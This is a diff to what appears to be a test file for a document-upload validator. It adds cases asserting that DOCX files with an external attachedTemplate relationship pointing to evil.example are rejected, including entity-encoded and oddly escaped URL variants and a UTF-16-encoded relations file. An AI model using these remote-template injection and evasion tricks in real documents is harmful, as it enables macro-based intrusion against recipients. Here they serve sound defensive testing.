@@ -22,7 +22,7 @@ const bytes = (text: string) => Buffer.from(text, 'latin1')
 const zipOf = (name: string, content = 'words') => makeZip([{ name, content }])
 const relations = (type: string, target: string) => ({
   name: 'word/_rels/settings.xml.rels',
-  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  content: `<Relationships><Relationship Id="r1" Target="${target}" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
 })
 
 const wrongKind = [415, 'Upload a PDF, Word (DOCX), PNG, JPEG, WebP or GIF file'] as const
@@ -105,6 +105,24 @@ const hostile: [string, string, Buffer, readonly [number, string]][] = [
     'a.docx',
     makeWord([relations('attachedTemplate', 'https://evil.example/t.dotm')]),
     hasProgram,
+  ],
+  [
+    'a document that fetches its template behind a mark',
+    'a.docx',
+    makeWord([relations('attachedTemplate', 'https://evil.example/a>b.dotm')]),
+    hasProgram,
+  ],
+  [
+    'a document that fetches its template in marks',
+    'a.docx',
+    makeWord([relations('attachedTemplate', '&#104;ttps://evil.example/t.dotm')]),
+    hasProgram,
+  ],
+  [
+    'a document whose relations are in another encoding',
+    'a.docx',
+    makeWord([{ name: 'word/_rels/settings.xml.rels', content: Buffer.from('<Relationships/>', 'utf16le') }]),
+    damaged('Word (DOCX)'),
   ],
   [
     'a document that unpacks to more than it says',
